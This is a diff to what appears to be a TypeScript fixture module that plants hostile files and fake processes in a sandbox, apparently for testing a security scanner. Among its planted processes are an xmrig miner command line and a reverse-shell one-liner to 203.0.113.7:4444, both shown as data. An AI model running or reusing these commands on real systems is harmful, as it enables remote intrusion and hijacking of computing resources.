@@ -3,8 +3,9 @@
  * output and planted processes. Everything here is data for the sandbox file map; nothing runs
  * on the host.
  */
-import type { SandboxProcessSpec } from './runtime.js';
+
 import type { SandboxEntry, SandboxPath } from './rootfs.js';
+import type { SandboxProcessSpec } from './runtime.js';
 
 /** One entry of a {@link craftedTar} archive. */
 export interface CraftedTarEntry {
@@ -168,7 +169,7 @@ export function hostileFiles(opts: HostileFilesOptions = {}): (SandboxEntry & { 
   out.push(
     { path: `${HOSTILE_PATHS.loops}/a`, type: 'symlink', target: 'b' },
     { path: `${HOSTILE_PATHS.loops}/b`, type: 'symlink', target: 'a' },
-    { path: `${HOSTILE_PATHS.loops}/dir/sub/up`, type: 'symlink', target: '../..' },
+    { path: `${HOSTILE_PATHS.loops}/dir/sub/up`, type: 'symlink', target: '..' },
     { path: `${HOSTILE_PATHS.loops}/dir/root`, type: 'symlink', target: '/' },
     { path: `${HOSTILE_PATHS.deep}/${deepPathComponents().join('/')}/leaf.txt`, content: 'deep\n' },
     { path: HOSTILE_PATHS.tarArchive, content: craftedTar(hostileTarEntries(opts.tarPrefix)) },
@@ -191,12 +192,22 @@ export function hostileFiles(opts: HostileFilesOptions = {}): (SandboxEntry & { 
 export function hostileProcesses(): SandboxProcessSpec[] {
   return [
     {
-      argv: ['/tmp/.X11-unix/xmrig', '--url', 'stratum+tcp://pool.example.invalid:3333', '--donate-level', '1'],
+      argv: [
+        '/tmp/.X11-unix/xmrig',
+        '--url',
+        'stratum+tcp://pool.example.invalid:3333',
+        '--donate-level',
+        '1',
+      ],
       binary: 'sleeper',
       deleteAfterStart: true,
     },
     {
-      argv: ['/var/tmp/.rs/sh', '-c', 'while :; do sleep 3600; done # sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
+      argv: [
+        '/var/tmp/.rs/sh',
+        '-c',
+        'while :; do sleep 3600; done # sh -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+      ],
       binary: 'busybox',
       deleteAfterStart: true,
     },
